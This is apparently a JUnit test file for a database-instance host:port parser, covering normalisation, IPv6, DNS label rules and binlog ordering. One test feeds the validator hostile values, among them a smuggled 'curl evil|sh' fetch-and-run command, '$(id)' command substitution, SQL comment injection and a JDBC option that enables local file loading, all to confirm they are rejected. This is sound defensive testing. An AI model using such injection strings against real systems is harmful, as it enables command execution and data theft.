package io.quorch.domain;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;

class InstanceKeyTest {

    @Test
    void parsesAndNormalises() {
        assertEquals(new InstanceKey("db1", 3307), InstanceKey.parse("DB1:3307"));
        assertEquals(new InstanceKey("db1", 3306), InstanceKey.parse("db1"));
        assertEquals("db1:3307", InstanceKey.parse(" db1:3307 ").toString());
    }

    @Test
    void rejectsBadPortsAndHosts() {
        assertThrows(IllegalArgumentException.class, () -> InstanceKey.parse("db1:x"));
        assertThrows(IllegalArgumentException.class, () -> InstanceKey.parse("db1:0"));
        assertThrows(IllegalArgumentException.class, () -> InstanceKey.parse(":3306"));
    }

    @Test
    void refusesHostsThatCarryOptionsSqlOrShellWords() {
        for (String hostile : new String[] { "evil:3306?allowLoadLocalInfile=true&x=", "x;curl evil|sh", "a b",
                "db1/mysql", "user@db1", "db1'--", "db1\nx", "-db1", "db1-", "db..1", "$(id)", "`id`",
                "a".repeat(64) + ".example", "x".repeat(254) }) {
            IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                    () -> new InstanceKey(hostile, 3306), hostile);
            assertTrue(e.getMessage().contains("host name"), e.getMessage());
        }
        assertThrows(IllegalArgumentException.class, () -> InstanceKey.parse("evil:3306?allowLoadLocalInfile=true"));
        assertThrows(IllegalArgumentException.class, () -> InstanceKey.parse("db1:3306 "  + "x"));
        assertThrows(IllegalArgumentException.class, () -> InstanceKey.parse("db1:+3306"));
        assertThrows(IllegalArgumentException.class, () -> InstanceKey.parse("db1:99999999999"));
    }

    @Test
    void acceptsNamesAddressesAndIpv6() {
        assertEquals("db-1.dc_2.example.com", new InstanceKey("DB-1.dc_2.example.com.", 3306).hostname());
        assertEquals("127.0.0.1", InstanceKey.parse("127.0.0.1:23306").hostname());
        assertEquals(new InstanceKey("::1", 3307), InstanceKey.parse("[::1]:3307"));
        assertEquals(new InstanceKey("fe80::1", 3306), InstanceKey.parse("fe80::1"));
        assertEquals(new InstanceKey("x".repeat(63), 1), new InstanceKey("x".repeat(63), 1));
        assertEquals("2001:db8::ff00:42:8329", new InstanceKey("2001:DB8::FF00:42:8329", 1).hostname());
        assertEquals("::ffff:192.0.2.1", new InstanceKey("::ffff:192.0.2.1", 1).hostname());
        assertEquals("1:2:3:4:5:6:7:8", new InstanceKey("1:2:3:4:5:6:7:8", 1).hostname());
    }

    @Test
    void refusesWhatOnlyLooksLikeIpv6() {
        for (String bad : new String[] { "db1:3306:1", "1:2:3", "1::2::3", "12345::1", "1:2:3:4:5:6:7:8:9",
                "::ffff:999.0.2.1", "fe80::1%" }) {
            assertThrows(IllegalArgumentException.class, () -> new InstanceKey(bad, 3306), bad);
        }
    }

    @Test
    void binlogCoordinatesOrderByFileNumberThenPosition() {
        var a = new BinlogCoordinates("mysql-bin.000009", 500);
        var b = new BinlogCoordinates("mysql-bin.000010", 4);
        var c = new BinlogCoordinates("mysql-bin.000010", 90);
        assertTrue(a.compareTo(b) < 0);
        assertTrue(b.compareTo(c) < 0);
        assertEquals(10, b.fileNumber());
    }

    @Test
    void theHostCheckAcceptsExactlyTheDnsLabelGrammar() {
        java.util.regex.Pattern label = java.util.regex.Pattern.compile("[a-z0-9_]([a-z0-9_-]{0,61}[a-z0-9_])?");
        java.util.Random random = new java.util.Random(7);
        String alphabet = "ab9_-.A ?";
        for (int n = 0; n < 200_000; n++) {
            StringBuilder b = new StringBuilder();
            int length = random.nextInt(n % 50 == 0 ? 140 : 12);
            for (int i = 0; i < length; i++) {
                b.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            String dns = b.toString();
            boolean expected = java.util.Arrays.stream(dns.split("\\.", -1)).allMatch(l -> label.matcher(l).matches());
            assertEquals(expected, InstanceKey.isDnsName(dns), "\"" + dns + "\"");
        }
        assertTrue(InstanceKey.isDnsName("a".repeat(63) + ".b"));
        assertEquals(false, InstanceKey.isDnsName("a".repeat(64) + ".b"));
    }

    @Test
    void keysAreEqualByHostIgnoringCaseAndPort() {
        InstanceKey a = new InstanceKey("DB1.example", 3306);
        InstanceKey b = new InstanceKey("db1.example", 3306);
        assertEquals(a, b);
        assertEquals(a.hashCode(), b.hashCode());
        assertTrue(!a.equals(new InstanceKey("db1.example", 3307)));
        assertTrue(!a.equals(new InstanceKey("db2.example", 3306)));
    }
}
